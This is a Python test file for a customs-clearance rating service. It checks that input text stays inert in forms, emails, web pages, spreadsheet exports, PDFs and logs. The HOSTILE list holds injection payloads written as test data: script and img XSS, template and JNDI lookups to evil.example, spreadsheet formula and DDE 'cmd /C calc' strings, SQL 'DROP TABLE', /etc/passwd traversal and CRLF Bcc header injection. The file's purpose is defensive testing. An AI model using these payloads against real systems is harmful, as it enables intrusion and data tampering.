"""Text from outside, through to whatever shows it: every text field of every request, and every place it comes out at.

The models and their fields are found, not listed: a new one is tried without a word here.
"""

import inspect
import io
import json
import re
import unicodedata
from collections.abc import Iterator
from dataclasses import replace
from html.parser import HTMLParser
from pathlib import Path
from types import ModuleType
from typing import Annotated, Any

import openpyxl
import pytest
from pydantic import BaseModel, TypeAdapter, ValidationError
from pypdf import PdfReader

from functions.report.csv_export import to_csv
from functions.report.xlsx_export import to_xlsx
from functions.submit import pages
from functions.submit import requests as of_enterprises
from functions.tasks import requests as of_staff
from hailong.cases import casework
from hailong.cases.case import Appeal, Case
from hailong.lots.clearance import Clearance
from hailong.lots.rating import Contact
from hailong.mail.message import Mail
from hailong.mail.render import OF_A_CASE, render, render_invitation
from hailong.sheets.table import Cell, Kind, Table
from hailong.vocabulary.errors import FieldError
from hailong.vocabulary.words import Language, NoticeKind
from local.paths import ROOT
from local.sample_mails import ANSWER_URL, CONSOLE_URL, RATE_URL, STOP_URL, sample_case, sample_clearance
from tests import samples
from tests.contract.links import FORM, rate
from tests.contract.submit_desk import TAX_CODE, SubmitDesk
from tests.contract.tasks_desk import TasksDesk
from tests.contract.test_case_paper import fonts, read, text_of

__all__ = ["fonts"]

UNSEEN = {
    "null": "a\u0000b",
    "bell": "a\u0007b",
    "escape": "a\u001b[31mb",
    "delete": "a\u007fb",
    "next line": "a\u0085b",
    "right to left": "a\u202eb",
    "isolate": "a\u2067b\u2069",
    "mark": "a\u200fb",
    "Arabic mark": "a\u061cb",
    "tag": "a\U000e0041b",
    "noncharacter": "a\ufffeb",
    "surrogate": "a\ud800b",
    "filler": "a\u3164b",
}
"""No field takes these at all."""
BREAKS = {"line feed": "a\nb", "return": "a\r\nBcc: b@evil.example", "separator": "a\u2028b", "tab": "a\tb"}
"""Nor these, but text of several lines, in which a line ends by a line feed alone."""
HOSTILE = (
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "</td></table></body><a href=https://evil.example>x</a>",
    "{{ 7*7 }}{% include 'x' %}{# y #}",
    "${7*7} #{7*7} %(x)s {0} %n%n",
    "${jndi:ldap://evil.example/a}",
    '=HYPERLINK("https://evil.example","x")',
    "+1+cmd|' /C calc'!A0",
    "-1+1",
    "@SUM(1)",
    "＝1+1",
    "A;=1+1",
    "'; DROP TABLE cases; --",
    "../../etc/passwd",
    "%0d%0aBcc: b@evil.example",
    '"} {"level":"ERROR","message":"forged"}',
    "&lt;b&gt; &amp; &#60;",
    "javascript:alert(1)",
)
"""What may be said, and must be nothing but said."""
SAID = " · ".join(HOSTILE)


def _models() -> Iterator[type[BaseModel]]:
    for module in (of_enterprises, of_staff):
        for _, found in inspect.getmembers(module, inspect.isclass):
            if issubclass(found, BaseModel) and found.__module__ == module.__name__:
                found.model_rebuild()
                yield found


ONE_BY_ONE = {"BulkRequest.clearances", "MissingQuery.cursor"}
"""Whose items are each parsed by a model of their own; what is taken apart by its form, and goes nowhere."""
FIELDS = [
    pytest.param(model, field, id=f"{model.__name__}.{field}")
    for model in sorted(_models(), key=lambda model: model.__name__)
    for field in model.model_fields
    if f"{model.__name__}.{field}" not in ONE_BY_ONE
]


def _texts(value: Any) -> Iterator[str]:
    """The texts in what a field has taken, however deep."""
    match value:
        case str():
            yield str(value)
        case list() | tuple():
            for part in value:
                yield from _texts(part)
        case dict():
            for part in value.values():
                yield from _texts(part)


def _taken(model: type[BaseModel], field: str, text: str) -> list[str]:
    """What the field makes of the text, alone and in a list; nothing where it refuses it."""
    found: list[str] = []
    known = model.model_fields[field]
    kind: Any = Annotated[known.annotation, *known.metadata] if known.metadata else known.annotation
    for given in (text, [text]):
        try:
            model.model_validate({field: given})
        except ValidationError as error:
            # That the other fields are missing says nothing of this one.
            if any(one["loc"][:1] == (field,) for one in error.errors()):
                continue
        found += _texts(TypeAdapter(kind).validate_python(given))
    return found


@pytest.mark.parametrize(("model", "field"), FIELDS)
def test_no_field_takes_what_cannot_be_seen_or_forges_a_line(model: type[BaseModel], field: str) -> None:
    for name, text in UNSEEN.items():
        assert _taken(model, field, text) == [], name
    for name, text in BREAKS.items():
        for kept in _taken(model, field, text):
            assert not set(kept) & set("\r\u2028\u2029"), name
            assert [char for char in kept if unicodedata.category(char) == "Cc" and char not in "\n\t"] == [], name


def test_fields_that_take_text_are_found() -> None:
    """So that the test before this one is about something: as many as there are, or more."""
    taking = [one.id for one in FIELDS if _taken(*one.values, "Chờ lâu")]  # type: ignore[arg-type, call-arg]
    assert len(taking) >= 15, taking
    assert {"NoteRequest.text", "DecideRequest.message_to_enterprise", "AppealRequest.reason"} <= set(taking)
    assert {"RatingRequest.comment", "EnterpriseRequest.name", "OfficerRequest.name"} <= set(taking)


class _Shape(HTMLParser):
    """Which elements a page is of, in order, with their attributes but for those that hold what was said."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.elements: list[str] = []
        self.addresses: list[str] = []
        self.words: list[str] = []
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append(f"{tag} {sorted(name for name, _ in attrs)}")
        self.addresses += [value or "" for name, value in attrs if name in {"href", "src", "action"}]

    def handle_data(self, data: str) -> None:
        self.words.append(data)


def _clearance(said: str) -> Clearance:
    found = sample_clearance()
    officers = tuple(replace(one, name=said, stage=said) for one in found.officers)
    return replace(found, enterprise=replace(found.enterprise, name=said), officers=officers)


def _case(said: str, kind: NoticeKind, language: Language) -> Case:
    """A case in which everybody says it, wherever anybody can say anything."""
    found = sample_case(kind, language)
    rating = replace(
        found.rating,
        comment=said,
        contact=Contact(name=said, email="ai@example.vn", phone=said),
        clearance=replace(_clearance(said), declaration_no=found.clearance.declaration_no),
    )
    decisions = {
        level: replace(made, action_taken=said, message_to_enterprise=said) for level, made in found.decisions.items()
    }
    appeal = Appeal(reason=said, at=samples.RATED, due_at=samples.DUE)
    return replace(found, rating=rating, decisions=decisions, appeal=found.appeal and appeal)


def _mails(said: str) -> Iterator[tuple[str, Mail]]:
    for language in Language:
        for kind in OF_A_CASE:
            case = _case(said, kind, language)
            yield f"{kind} {language}", render(kind, case, answer_url=ANSWER_URL, console_url=CONSOLE_URL)
    yield (
        "invitation",
        render_invitation(_clearance(said), rate_url=RATE_URL, rate_until=samples.DUE, stop_url=STOP_URL),
    )


def test_nothing_that_is_said_becomes_a_part_of_a_mail() -> None:
    plain = dict(_mails("Lời nói"))
    seen = 0
    for name, mail in _mails(SAID):
        shape, usual = _Shape(mail.html), _Shape(plain[name].html)
        assert (shape.elements, shape.addresses) == (usual.elements, usual.addresses), name
        assert not set("\r\n") & set(mail.subject), name
        seen += "{{ 7*7 }}" in "".join(shape.words)
    assert seen > 5


def test_nothing_that_is_said_becomes_a_part_of_a_page() -> None:
    today = samples.RATED.date()

    def shown(said: str) -> Iterator[str]:
        for language in Language:
            case = _case(said, NoticeKind.OUTCOME, language)
            yield pages.answer(language, case.rating, case, now=samples.RATED, visit=pages.Visit(given={"why": [said]}))
            given = {"comment": [said], "contact_name": [said], "contact_email": [said], "nonce": [said]}
            yield pages.rate_form(language, _clearance(said), given, [FieldError("comment", said)], today=today)
            yield pages.already_rated(language, _clearance(said), today=today)
            link = "https://api.example.vn/a"
            yield pages.thanks(language, case.rating, link, today=today, nonce=said, form_action="k/correct")

    for hostile, usual in zip(shown(SAID), shown("Lời nói"), strict=True):
        assert _Shape(hostile).elements == _Shape(usual).elements
        assert _Shape(hostile).addresses == _Shape(usual).addresses


@pytest.mark.parametrize("said", [*HOSTILE, SAID])
def test_nothing_that_is_said_is_reckoned_by_a_spreadsheet(said: str) -> None:
    table = Table("t", "Bảng", ["tên"], [[Cell(said, Kind.TEXT)]])
    for cell in re.split(r'[;\n"]', to_csv(said, [table]).decode("utf-8-sig")):
        assert not cell.startswith(("=", "+", "-", "@", "＝", "＋", "－", "＠", "|", "\t")), cell
    book = openpyxl.load_workbook(io.BytesIO(to_xlsx(said, [table])))
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert said in [cell.value for cell in cells]
    assert {cell.data_type for cell in cells} <= {"s", "n", "inlineStr"}
    assert not any(cell.hyperlink for cell in cells)


def test_nothing_that_is_said_becomes_a_part_of_the_paper(
    opened: TasksDesk, fonts: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(opened.module, "fonts", fonts)
    opened.write(casework.note(opened.case, samples.INSPECTOR, SAID, at=samples.RATED))
    found: PdfReader = read(opened)
    text = "".join(text_of(found).split())
    for said in HOSTILE:
        if said.isascii():
            # A page may end between two words.
            assert [word for word in said.split() if word not in text] == [], said
    assert not found.get_fields()
    root: Any = found.trailer["/Root"]
    assert not {"/AA", "/Names", "/AcroForm"} & set(root)
    # A place to begin at, and nothing to do.
    assert isinstance(root["/OpenAction"].get_object(), list)
    for page in found.pages:
        for annotation in page.get("/Annots") or ():
            assert "evil.example" not in str(annotation.get_object())


def test_nothing_that_is_said_comes_into_the_logs(
    desk: SubmitDesk, submit: ModuleType, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Each line is one record of ours, and quotes nobody."""
    written = io.StringIO()
    for handler in submit.logger.handlers:
        monkeypatch.setattr(handler, "stream", written)
    enterprise = {"tax_code": TAX_CODE, "name": SAID[:250], "emails": ["xnk@example.vn"]}
    officers = [{"code": "20CF-0012", "name": SAID[:90], "stage": SAID[:45]}]
    key = desk.clear(enterprise=enterprise, officers=officers)["rating_key"]
    rate(desk, key, {**FORM, "comment": SAID, "contact_name": SAID[:90], SAID[:50]: SAID})
    rate(desk, key, {**FORM, "comment": SAID, "contact_name": SAID[:90]})
    desk.send("PUT", "/clearances/{declaration_no}", {SAID[:40]: SAID}, at={"declaration_no": SAID[:20]})
    submit.logger.info("one line", extra={"said": f"{SAID}\n{SAID}"})
    lines = [line for line in written.getvalue().splitlines() if line.strip()]
    records = [json.loads(line) for line in lines]
    assert records
    quoting = [line for line in lines if "alert(1)" in line or "evil.example" in line]
    assert len(quoting) == 1, quoting
    assert "one line" in quoting[0]


def test_the_console_writes_no_markup_of_its_own() -> None:
    """React escapes what it shows; nothing goes past it."""
    past = re.compile(r"dangerouslySetInnerHTML|\.innerHTML|insertAdjacentHTML|document\.write|\beval\(|new Function\(")
    sources = list((ROOT / "functions" / "console" / "src").rglob("*.ts*"))
    assert len(sources) > 20
    assert [path.name for path in sources if past.search(path.read_text("utf-8"))] == []
